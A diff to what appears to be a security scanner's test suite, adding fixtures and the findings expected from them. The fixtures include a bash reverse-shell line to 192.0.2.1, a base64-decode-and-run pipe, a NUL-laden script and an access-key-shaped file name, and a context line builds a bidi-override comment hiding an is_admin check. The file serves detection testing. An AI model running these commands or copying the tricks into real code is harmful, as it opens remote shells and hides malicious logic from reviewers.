@@ -205,6 +205,18 @@ perl -e 'print "104755 x\0", pack "H*", shift' "$blob" >"$TMPDIR/raw"
 raw_commit <"$TMPDIR/raw"
 EOF
 
+hostile script-no-extension 'decode-and-run=block@bin/deploy remote-shell=block@bin/deploy' 'a script without an extension' <<'EOF'
+mkdir bin && printf '#!/bin/sh\necho cGF5 | base64 -d | sh\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n' >bin/deploy
+EOF
+hostile script-text 'obfuscated=ask@docs/run[.]txt shell-socket=ask@docs/run[.]txt' 'commands in a text' <<'EOF'
+printf 'echo cGF5 | base64 -d | sh\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n' >docs/run.txt
+EOF
+hostile script-nul 'control-character=block@src/go[.]sh decode-and-run=block@src/go[.]sh' 'a script with a NUL' <<'EOF'
+printf '#!/bin/sh\n# \000\necho cGF5 | base64 -d | sh\n' >src/go.sh
+EOF
+hostile name-secret 'secret=block@docs/AKIA' 'a key in a name' <<'EOF'
+echo x >docs/AKIAZ7QW3EXKLMN4PR2T.txt
+EOF
 # Text.
 hostile bidi-override 'bidi=block@src/main[.]c' 'a comment that turns the code round' <<'EOF'
 bytes 'int x; /* \0342\0200\0256 } \0342\0201\0246if (is_admin)\0342\0201\0251 \0342\0201\0246 begin */\n' >>src/main.c
